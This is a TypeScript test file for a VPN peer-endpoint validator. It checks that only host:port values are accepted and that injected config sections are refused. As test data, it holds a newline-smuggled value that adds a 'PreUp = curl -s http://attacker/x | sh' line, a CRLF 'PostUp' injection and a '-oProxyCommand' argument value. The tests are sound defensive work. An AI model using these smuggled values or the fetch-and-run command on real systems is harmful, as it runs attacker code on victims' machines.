/** `fleet peer add --endpoint` (security review item 10): host:port only, never a second config section. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { PeerError } from './allocate.js';
import { renderClientConfig } from './config.js';
import { checkEndpoint } from './endpoint.js';
import { addPeer } from './index.js';

const K1 = 'kkF9mcIbAkIS8yuU9op2masQSd/wQPLAN4RskuUG2Ho=';
const INJECTION = '198.51.100.11:51820\n\n[Interface]\nPreUp = curl -s http://attacker/x | sh';

describe('--endpoint', () => {
  it('takes host:port: a DNS name, an IPv4 address, or IPv6 in brackets', () => {
    for (const ok of ['vpn.example.com:51820', 'gw1:1', '198.51.100.11:51820', '[2001:db8::1]:51820', '[::1]:65535', 'vpn.example.com.:51820']) {
      expect(checkEndpoint(ok), ok).toBe(ok);
    }
  });

  it.each([
    [INJECTION, /control character/],
    ['198.51.100.11:51820\r\nPostUp = id', /control character/],
    ['2001:db8::1:51820', /IPv6 address goes in brackets/],
    ['[2001:db8::zz]:51820', /not an IPv6 address/],
    ['[198.51.100.11]:51820', /not an IPv6 address/],
    ['vpn.example.com', /expected host:port/],
    ['vpn.example.com:0', /port must be 1-65535/],
    ['vpn.example.com:65536', /port must be 1-65535/],
    ['vpn.example.com:51820 ', /expected host:port/],
    ['vpn example.com:51820', /not a DNS name/],
    ['-oProxyCommand=x:1', /not a DNS name/],
    [':51820', /not a DNS name/],
  ])('refuses %j', (value, why) => {
    expect(() => checkEndpoint(value)).toThrow(PeerError);
    expect(() => checkEndpoint(value)).toThrow(why);
  });

  it('the message shows a newline as \\n instead of printing it', () => {
    expect(() => checkEndpoint(INJECTION)).toThrow(/'198\.51\.100\.11:51820\\n\\n\[Interface\]\\nPreUp = curl/);
  });

  it('a config value with a newline is never rendered', () => {
    expect(() => renderClientConfig({ address: '10.4.0.3', dns: '10.4.0.1', serverPublicKey: K1, endpoint: INJECTION, allowedIps: ['10.4.0.0/24'] })).toThrow(PeerError);
  });

  it('peer add refuses it before the inventory is read for editing or any host is contacted', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'fleet-endpoint-'));
    // A port on 127.0.0.1 that nothing listens on: a connect attempt would fail differently.
    const closed = await new Promise<number>((resolve) => {
      const s = net.createServer().listen(0, '127.0.0.1', () => {
        const { port } = s.address() as net.AddressInfo;
        s.close(() => resolve(port));
      });
    });
    const file = path.join(dir, 'inv.yaml');
    const text = `all:\n  hosts:\n    gw1:\n      host: 127.0.0.1\n      port: ${closed}\n      wan_interface: ens5\n      wan_ip: 10.0.1.191\n      vpn_server_ip: 198.51.100.20\n      openvpn_config_file: /etc/fleet/provider.ovpn\n`;
    writeFileSync(file, text);
    try {
      await expect(addPeer({ inventory: file, gateway: 'gw1', name: 'laptop', endpoint: INJECTION })).rejects.toThrow(/--endpoint .* is not host:port/);
      expect(readFileSync(file, 'utf8')).toBe(text);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
